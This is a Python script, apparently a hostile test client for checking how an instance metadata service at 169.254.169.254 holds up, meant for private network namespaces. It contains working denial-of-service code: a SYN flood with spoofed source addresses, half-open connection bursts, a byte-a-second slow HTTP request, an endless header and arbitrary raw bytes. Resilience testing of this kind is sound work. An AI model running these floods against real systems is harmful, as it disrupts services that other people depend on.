"""Sends what no honest client would. Meant for private network namespaces only.

hostile_client.py syn FIRST COUNT     a SYN from each of COUNT addresses and ports, FIRST being the first address
hostile_client.py half-open SOURCE COUNT   a SYN from each of COUNT ports of SOURCE, whose answers nobody takes
hostile_client.py slow TARGET         a GET of which the first bytes come one a second
hostile_client.py endless BYTES       a head of so many bytes that does not end
hostile_client.py bytes HEX           these bytes, and then the end
"""

import socket
import struct
import sys
import time

ADDRESS = "169.254.169.254"
SLOW_BYTES = 5
SYN = struct.pack("!HH", 5 << 12 | 2, 65535)
BURST = 25


def checksum(words):
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, port, sequence):
    """An IPv4 packet; the kernel fills in its identification and header checksum."""
    server = struct.unpack("!I", socket.inet_aton(ADDRESS))[0]
    segment = struct.pack("!HHII", port, 80, sequence, 0) + SYN + bytes(4)
    pseudo = struct.pack("!IIHH", source, server, socket.IPPROTO_TCP, len(segment))
    words = struct.unpack("!16H", pseudo + segment)
    segment = segment[:16] + struct.pack("!H", checksum(words)) + segment[18:]
    header = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0, source, server)
    return header + segment


def send_raw(packets):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number, packet in enumerate(packets):
            raw.sendto(packet, (ADDRESS, 0))
            if number % BURST == BURST - 1:
                time.sleep(0.005)


def address(text):
    return struct.unpack("!I", socket.inet_aton(text))[0]


def connect():
    connection = socket.create_connection((ADDRESS, 80), timeout=20)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def slow(target):
    request = ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: slow\r\n\r\n" % (target, ADDRESS)).encode()
    with connect() as connection:
        for byte in request[:SLOW_BYTES]:
            connection.sendall(bytes([byte]))
            time.sleep(1)
        connection.sendall(request[SLOW_BYTES:])
        connection.recv(4096)


def send(data):
    """Whatever IMDS makes of it."""
    with connect() as connection:
        try:
            connection.sendall(data)
            connection.shutdown(socket.SHUT_WR)
            while connection.recv(4096):
                pass
        except ConnectionError:
            pass


def main(what, *arguments):
    if what == "syn":
        first = address(arguments[0])
        send_raw(syn(first + i, 1024 + i % 60_000, 7 * i) for i in range(int(arguments[1])))
    elif what == "half-open":
        source = address(arguments[0])
        send_raw(syn(source, 1024 + i, 11 * i) for i in range(int(arguments[1])))
    elif what == "slow":
        slow(arguments[0])
    elif what == "endless":
        send(b"GET /latest/meta-data/endless HTTP/1.1\r\nX-Padding: " + int(arguments[0]) * b"a")
    elif what == "bytes":
        send(bytes.fromhex(arguments[0]))
    else:
        sys.exit(__doc__)


main(*sys.argv[1:])
